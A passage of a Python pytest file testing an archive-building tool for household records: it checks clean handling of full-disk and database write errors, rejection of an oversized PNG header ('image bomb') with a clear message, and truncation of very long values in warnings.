def test_full_disk_is_the_output_folder_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    import errno
    import shutil
    import sqlite3

    from archive_builder.archive import build as build_module
    from archive_builder.archive import outdir
    from archive_builder.versions import store

    data = write_data_dir(tmp_path / "data", [valid_household(HID)])
    out = tmp_path / "out"
    assert run("build", data, "-o", out, "-j", "1").exit_code == ExitCode.ok
    before = _snapshot(out)
    record = data / "冯老村" / HID / "household.yaml"
    record.write_text(record.read_text("utf-8").replace("12号", "13号"), "utf-8")

    def full(*args: Any, **kwargs: Any) -> Any:
        raise OSError(errno.ENOSPC, "No space left on device", str(out / "x"))

    if where == "state":
        monkeypatch.setattr(outdir, "atomic_write_json", full)
    elif where == "packet":
        monkeypatch.setattr(build_module.outdir, "atomic_write_json", full)
        monkeypatch.setattr(build_module.outdir, "atomic_write", full)  # the build's state files
        monkeypatch.setattr("archive_builder.archive.packet.atomic_file", full)
    else:
        message = "database or disk is full" if where == "store" else "disk I/O error"

        def sqlite_full(*args: Any, **kwargs: Any) -> Any:
            raise store.StoreError("版本库写入失败") from sqlite3.OperationalError(message)

        monkeypatch.setattr(store.VersionStore, "record_many", sqlite_full)
        monkeypatch.setattr(shutil, "disk_usage", lambda path: shutil._ntuple_diskusage(100, 100, 0))
    built = run("build", data, "-o", out, "-j", "1")
    assert built.exit_code == ExitCode.output_unusable, built.output
    assert "磁盘空间不足" in built.output and str(out) in built.output
    assert "内部错误" not in built.output
    # nothing half-written: the manifest is the previous one, every PDF is whole (the one
    # household already re-rendered is complete), no temporary files are left
    from pypdf import PdfReader

    after = _snapshot(out)
    assert after["manifest.json"] == before["manifest.json"]
    assert set(after) == set(before)
    for name in after:
        if name.endswith(".pdf"):
            assert len(PdfReader(out / name).pages) > 0


# --------------------------------------------------------------------------- 18 verify --image


def test_verify_image_bomb_is_a_clear_error(tmp_path: Path) -> None:
    import struct
    import zlib

    # a PNG header claiming 100000 × 100000 pixels, with a tiny (broken) body
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100000, 100000, 8, 0, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b""))
    bomb = tmp_path / "cover.png"
    bomb.write_bytes(png)
    result = run("verify", "--image", bomb, "-o", tmp_path / "out")
    assert result.exit_code not in (ExitCode.internal, 0), result.output
    assert "内部错误" not in result.output and "像素过多" in result.output


def test_long_values_are_shortened_in_messages(tmp_path: Path) -> None:
    record = valid_household(HID)
    record["members"][0]["name"] = "张" + "x" * 5000  # under the cap, but not a name
    data = write_data_dir(tmp_path / "data", [record])
    checked = run("validate", data)
    assert "x" * 200 not in checked.output, checked.output[:2000]
    from archive_builder.problems import warning

    assert len(warning(f"姓名「{'张' * 100000}」有误").message) < 200
